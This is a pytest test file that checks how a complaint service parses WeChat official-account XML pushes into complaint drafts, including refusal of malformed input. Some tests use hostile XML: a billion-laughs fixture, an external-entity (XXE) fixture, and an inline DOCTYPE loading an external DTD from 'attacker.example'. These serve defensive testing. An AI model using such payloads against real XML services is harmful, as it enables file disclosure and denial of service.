"""Tests for parsing WeChat official-account pushes into complaint drafts."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from complaint_service.core.problems import MalformedPayload
from complaint_service.intake.channels.base import Attachment, ComplaintDraft, IdentityIn, Ignored
from complaint_service.intake.channels.wechat import parse_wechat_push
from complaint_service.models.enums import Channel, IdentityKind

FIXTURES = Path(__file__).parents[2] / "fixtures" / "channels" / "wechat"
OPENID = "oAbC123_customer_openid"


def push(msg_type: str, fields: str, *, msg_id: str | None = "24802011223345101") -> bytes:
    msg_id_element = f"<MsgId>{msg_id}</MsgId>" if msg_id is not None else ""
    return (
        "<xml>"
        "<ToUserName><![CDATA[gh_3f2a1b4c5d6e]]></ToUserName>"
        f"<FromUserName><![CDATA[{OPENID}]]></FromUserName>"
        "<CreateTime>1795830245</CreateTime>"
        f"<MsgType><![CDATA[{msg_type}]]></MsgType>"
        f"{fields}{msg_id_element}"
        "</xml>"
    ).encode()


def draft_of(xml: bytes) -> ComplaintDraft:
    result = parse_wechat_push(xml)
    assert isinstance(result, ComplaintDraft)
    return result


class TestParseWechatPush:
    def test_text_fixture_becomes_a_complaint(self) -> None:
        draft = draft_of((FIXTURES / "text.xml").read_bytes())

        assert draft.channel is Channel.wechat
        assert draft.external_id == "24802011223344556"
        assert draft.body.startswith("我的订单 202611220001 支付失败了，钱扣了但是订单没生成")
        assert "13812345678" in draft.body
        assert draft.author == OPENID
        assert draft.identities == [IdentityIn(kind=IdentityKind.wechat_openid, value=OPENID)]
        assert draft.received_at == datetime(2026, 11, 28, 1, 44, 5, tzinfo=UTC)
        assert draft.attachments == []
        assert draft.channel_data == {"to_user": "gh_3f2a1b4c5d6e", "msg_type": "text"}

    def test_text_in_traditional_chinese_keeps_its_whitespace_inside(self) -> None:
        draft = draft_of(push("text", "<Content><![CDATA[退款申請已經兩週了\n還沒有到帳]]></Content>"))

        assert draft.body == "退款申請已經兩週了\n還沒有到帳"

    def test_image_fixture_is_an_attachment_without_invented_text(self) -> None:
        draft = draft_of((FIXTURES / "image.xml").read_bytes())

        assert draft.body == ""
        assert draft.external_id == "24802011223344601"
        assert draft.attachments == [
            Attachment(
                content_type="image/jpeg",
                size=None,
                url="http://mmbiz.qpic.cn/mmbiz_jpg/Xk3vQ9pL2sT7/0",
                media_id="MEDIA_ID_qW8eR7tY6uI5oP4aS3dF2gH1",
            )
        ]

    def test_voice_fixture_uses_speech_recognition_as_body(self) -> None:
        draft = draft_of((FIXTURES / "voice.xml").read_bytes())

        assert draft.body == "快递三天了还没到，客服一直不回复"
        assert draft.attachments == [
            Attachment(content_type="audio/amr", media_id="MEDIA_ID_zX9cV8bN7mL6kJ5hG4fD3sA2")
        ]
        assert draft.channel_data["format"] == "amr"
        assert draft.channel_data["recognition"] is True

    def test_voice_without_recognition_has_empty_body(self) -> None:
        draft = draft_of(push("voice", "<MediaId>m-voice-1</MediaId><Format>speex</Format>"))

        assert draft.body == ""
        assert draft.attachments[0].content_type == "audio/speex"
        assert "recognition" not in draft.channel_data

    def test_voice_with_odd_format_gets_no_content_type(self) -> None:
        draft = draft_of(push("voice", "<MediaId>m-voice-2</MediaId><Format>amr; x=1</Format>"))

        assert draft.attachments[0].content_type is None
        assert draft.attachments[0].media_id == "m-voice-2"

    @pytest.mark.parametrize("msg_type", ["video", "shortvideo"])
    def test_video_keeps_media_and_thumbnail_ids(self, msg_type: str) -> None:
        draft = draft_of(push(msg_type, "<MediaId>m-video</MediaId><ThumbMediaId>m-thumb</ThumbMediaId>"))

        assert draft.attachments == [Attachment(media_id="m-video")]
        assert draft.channel_data["thumb_media_id"] == "m-thumb"
        assert draft.channel_data["msg_type"] == msg_type

    def test_location_body_is_the_label_and_coordinates_go_to_channel_data(self) -> None:
        draft = draft_of(
            push(
                "location",
                "<Location_X>31.230416</Location_X><Location_Y>121.473701</Location_Y>"
                "<Scale>15</Scale><Label><![CDATA[上海市黄浦区人民大道200号]]></Label>",
            )
        )

        assert draft.body == "上海市黄浦区人民大道200号"
        assert draft.channel_data["latitude"] == "31.230416"
        assert draft.channel_data["longitude"] == "121.473701"
        assert draft.channel_data["scale"] == "15"

    def test_link_body_joins_title_description_and_url(self) -> None:
        draft = draft_of(
            push(
                "link",
                "<Title><![CDATA[Refund still pending]]></Title>"
                "<Description><![CDATA[Order 202611220001 was cancelled two weeks ago]]></Description>"
                "<Url><![CDATA[https://shop.example.com/orders/202611220001]]></Url>",
            )
        )

        assert draft.body == (
            "Refund still pending\nOrder 202611220001 was cancelled two weeks ago\n"
            "https://shop.example.com/orders/202611220001"
        )

    def test_missing_msg_id_falls_back_to_sender_and_time(self) -> None:
        draft = draft_of(push("text", "<Content>还没发货</Content>", msg_id=None))

        assert draft.external_id == f"{OPENID}:1795830245"

    def test_article_comment_ids_are_kept(self) -> None:
        draft = draft_of(
            push("text", "<Content>文章里的价格不对</Content><MsgDataId>2247483651</MsgDataId><Idx>1</Idx>")
        )

        assert draft.channel_data["msg_data_id"] == "2247483651"
        assert draft.channel_data["idx"] == "1"

    def test_subscribe_fixture_is_ignored(self) -> None:
        assert parse_wechat_push((FIXTURES / "subscribe.xml").read_bytes()) == Ignored(
            reason="wechat event subscribe"
        )

    @pytest.mark.parametrize("event", ["unsubscribe", "SCAN", "LOCATION", "CLICK", "VIEW"])
    def test_every_event_is_ignored(self, event: str) -> None:
        result = parse_wechat_push(push("event", f"<Event><![CDATA[{event}]]></Event>", msg_id=None))

        assert result == Ignored(reason=f"wechat event {event}")

    def test_unknown_message_type_is_ignored(self) -> None:
        result = parse_wechat_push(push("miniprogrampage", "<Title>小程序卡片</Title>"))

        assert isinstance(result, Ignored)
        assert "miniprogrampage" in result.reason

    def test_billion_laughs_is_refused(self) -> None:
        with pytest.raises(MalformedPayload, match="DTD"):
            parse_wechat_push((FIXTURES / "bomb.xml").read_bytes())

    def test_external_entity_is_refused_without_reading_the_file(self) -> None:
        with pytest.raises(MalformedPayload) as caught:
            parse_wechat_push((FIXTURES / "xxe.xml").read_bytes())

        assert "root:" not in str(caught.value)
        assert "root:" not in repr(caught.value.__cause__)

    def test_external_dtd_is_refused(self) -> None:
        xml = b'<?xml version="1.0"?><!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">' + push(
            "text", "<Content>hi</Content>"
        )

        with pytest.raises(MalformedPayload):
            parse_wechat_push(xml)

    @pytest.mark.parametrize(
        "xml",
        [b"<xml><FromUserName>oAbC</FromUserName>", b"", b"not xml at all", b"<xml><a></b></xml>"],
    )
    def test_malformed_xml_is_refused(self, xml: bytes) -> None:
        with pytest.raises(MalformedPayload, match="well-formed"):
            parse_wechat_push(xml)

    def test_root_other_than_xml_is_refused(self) -> None:
        with pytest.raises(MalformedPayload, match="root"):
            parse_wechat_push(push("text", "<Content>x</Content>").replace(b"xml>", b"message>"))

    def test_gbk_bytes_are_refused(self) -> None:
        xml = b'<?xml version="1.0" encoding="GBK"?>' + push(
            "text", "<Content>支付失败</Content>"
        ).decode().encode("gbk")

        with pytest.raises(MalformedPayload, match="UTF-8"):
            parse_wechat_push(xml)

    def test_utf8_bytes_declared_as_latin1_are_refused_not_misread(self) -> None:
        xml = b'<?xml version="1.0" encoding="ISO-8859-1"?>' + push("text", "<Content>支付失败</Content>")

        with pytest.raises(MalformedPayload, match="declare UTF-8"):
            parse_wechat_push(xml)

    def test_utf8_declaration_and_bom_are_accepted(self) -> None:
        xml = (
            b"\xef\xbb\xbf"
            + b'<?xml version="1.0" encoding="utf-8"?>'
            + push("text", "<Content>支付失败</Content>")
        )

        assert draft_of(xml).body == "支付失败"

    @pytest.mark.parametrize("element", ["FromUserName", "CreateTime", "MsgType"])
    def test_missing_required_element_is_named(self, element: str) -> None:
        xml = push("text", "<Content>x</Content>").decode()
        start, end = xml.index(f"<{element}>"), xml.index(f"</{element}>") + len(element) + 3

        with pytest.raises(MalformedPayload, match=f"<{element}>"):
            parse_wechat_push((xml[:start] + xml[end:]).encode())

    @pytest.mark.parametrize("create_time", ["yesterday", "-5", "１７９５８３０２４５", "9" * 40])
    def test_create_time_must_be_unix_seconds(self, create_time: str) -> None:
        xml = push("text", "<Content>x</Content>").replace(b"1795830245", create_time.encode())

        with pytest.raises(MalformedPayload, match="CreateTime"):
            parse_wechat_push(xml)

    def test_create_time_beyond_calendar_is_refused(self) -> None:
        xml = push("text", "<Content>x</Content>").replace(b"1795830245", b"999999999999")

        with pytest.raises(MalformedPayload, match="out of range"):
            parse_wechat_push(xml)

    def test_oversized_openid_is_refused_without_echoing_it(self) -> None:
        huge = "o" * 400
        xml = push("text", "<Content>x</Content>").replace(OPENID.encode(), huge.encode())

        with pytest.raises(MalformedPayload, match=r"identities\.0\.value") as caught:
            parse_wechat_push(xml)

        assert huge not in str(caught.value)

    def test_oversized_values_are_refused_by_field_name(self) -> None:
        xml = push("image", f"<PicUrl>https://mmbiz.qpic.cn/{'a' * 2000}</PicUrl>", msg_id="9" * 600)

        with pytest.raises(MalformedPayload, match=r"attachments\.0\.url, external_id"):
            parse_wechat_push(xml)
